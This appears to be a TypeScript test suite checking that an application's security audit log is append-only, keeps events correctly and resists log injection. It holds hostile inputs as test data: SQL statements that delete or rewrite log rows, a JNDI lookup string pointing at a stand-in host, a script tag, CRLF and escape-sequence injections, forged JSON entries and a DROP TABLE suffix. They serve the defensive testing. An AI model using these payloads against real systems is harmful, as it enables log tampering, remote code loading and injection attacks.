import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { sealLog } from '../../src/audit/seal-log.ts'
import { cleanUp } from '../../src/clean-up.ts'
import { startCopies } from '../support/copies.ts'
import type { Copies } from '../support/copies.ts'
import { enter, eventsOf, startApp } from '../support/member.ts'
import { addSomebody } from '../support/people.ts'
import type { Person } from '../support/people.ts'
import { givePassword } from '../support/steps.ts'
import type { Visitor } from '../support/visitor.ts'

let copies: Copies
let person: Person
let visitor: Visitor
before(async () => {
  copies = await startCopies()
  person = await addSomebody(copies.world, ['totp'])
  visitor = await enter(copies, person)
})
after(() => copies.stop())

const count = async () => (await copies.sql.query('SELECT 1 FROM events')).length
const appendOnly = /the security log is append-only/

test('AUD-03: attack: the program’s own connection cannot change, delete or empty the security log', async () => {
  const before = await count()
  assert.ok(before > 0)
  for (const text of [
    "UPDATE events SET kind = 'sign-in.done'",
    'UPDATE events SET account_id = NULL WHERE id = (SELECT max(id) FROM events)',
    "UPDATE events SET at = now() - interval '400 days'",
    'DELETE FROM events',
    'DELETE FROM events WHERE id = (SELECT max(id) FROM events)',
    'TRUNCATE events',
    "INSERT INTO events SELECT * FROM events ON CONFLICT (id) DO UPDATE SET source = ''",
    `MERGE INTO events e USING (SELECT max(id) AS id FROM events) m ON e.id = m.id
     WHEN MATCHED THEN DELETE`,
  ]) {
    await assert.rejects(copies.sql.query(text), text)
    assert.equal(await count(), before, text)
  }
  await assert.rejects(copies.sql.query('DELETE FROM events'), appendOnly)
})

test('AUD-03: events outlive their account, and say of it no more than its id', async () => {
  const gone = await addSomebody(copies.world, ['totp'])
  await enter(copies, gone)
  const before = await eventsOf(copies, gone)
  await copies.sql.query('DELETE FROM accounts WHERE id = $1', [gone.id])
  assert.deepEqual(await eventsOf(copies, gone), before)
})

test('AUD-03: cleaning up takes what is past its retention and nothing younger', async () => {
  await sealLog(copies.world)
  const before = await count()
  for (const [kind, days] of [
    ['test.old', 366],
    ['test.young', 364],
  ]) {
    await copies.sql.query(
      `INSERT INTO events (at, kind, source, browser, request_id)
       VALUES ($1::timestamptz - make_interval(days => $2), $3, '', '', '')`,
      [copies.clock.now(), days, kind],
    )
    await sealLog(copies.world)
  }
  await cleanUp(copies.world)
  const left = await copies.sql.query("SELECT 1 FROM events WHERE kind LIKE 'test.%'")
  assert.equal(left.length, 1)
  assert.equal(await count(), before + 1)
})

const nasty = [
  'Firefox/1 \u2028 sign-in.done',
  'x"},{"kind":"sign-in.done"},{"a":"',
  '\u009b2J\u009b1;1HAll is well',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '%0d%0aInjected: yes',
]

test('AUD-03: what a browser calls itself never gets into the log, only a name from our own list', async () => {
  for (const text of nasty) {
    const agent = Buffer.from(text, 'utf8').toString('latin1')
    const headers = { 'user-agent': agent, 'x-request-id': agent }
    await visitor.api('PATCH', '/profile', { name: 'Ada' }, { headers, withToken: false })
  }
  const rows = await copies.sql.query<{ browser: string; request_id: string }>(
    "SELECT browser, request_id FROM events WHERE kind = 'request.forgery-refused'",
  )
  assert.equal(rows.length, nasty.length)
  const names = new Set(rows.map(({ browser }) => browser))
  assert.deepEqual([...names].toSorted(), ['Firefox', 'Unknown browser'])
  for (const { request_id: id } of rows) assert.match(id, /^[0-9a-f]{16}$/)
})

test('AUD-03: a forged X-Forwarded-For writes no text into the log', async () => {
  for (const text of ['10.0.0.1%0aevil', 'evil.example', '<b>', '1.2.3.4; DROP TABLE events']) {
    const headers = { 'x-forwarded-for': text }
    await copies
      .visitor()
      .api('POST', '/sign-in', { email: person.email, password: 'x' }, { headers })
  }
  const rows = await copies.sql.query<{ source: string }>('SELECT DISTINCT source FROM events')
  for (const { source } of rows) assert.match(source, /^[0-9a-f.:/]*$/)
})

test('AUD-03: line breaks in names are refused, other signs stay one line of the log', async () => {
  for (const name of ['two\nlines', 'two\r\nlines', 'a\u2028b', 'a\u0000b', 'a\u001b[2Jb']) {
    assert.equal((await visitor.api('PATCH', '/profile', { name })).status, 400)
    assert.equal((await visitor.api('POST', '/methods', { kind: 'totp', name })).status, 400)
  }
  await startApp(visitor, 'x"},{"kind":"sign-in.done"},{"a":"')
  const kinds = await eventsOf(copies, person)
  assert.equal(kinds.filter((kind) => kind === 'sign-in.done').length, 1, 'that of this browser')
})

test('AUD-03: whatever comes in a request, the program’s own log has one JSON text a line', async () => {
  await copies.sql.query('ALTER TABLE methods RENAME TO hidden')
  try {
    for (const path of [
      '/settings/security?a=%0d%0a{"level":30}',
      '/settings/security?\u001b[2J',
    ]) {
      assert.equal((await visitor.get(encodeURI(path))).status, 500)
    }
    await givePassword(copies.visitor(), { email: 'a"}\n{"level":30', password: 'x\r\n{}' })
  } finally {
    await copies.sql.query('ALTER TABLE hidden RENAME TO methods')
  }
  const lines = copies.logged().trimEnd().split('\n')
  assert.ok(lines.some((line) => line.includes('a request failed')))
  for (const line of lines) {
    const entry = JSON.parse(line) as { time: unknown; msg: unknown }
    assert.ok(typeof entry.time === 'number' && typeof entry.msg === 'string', line)
    assert.doesNotMatch(line, /[\p{Cc}\u2028\u2029]/u)
  }
})
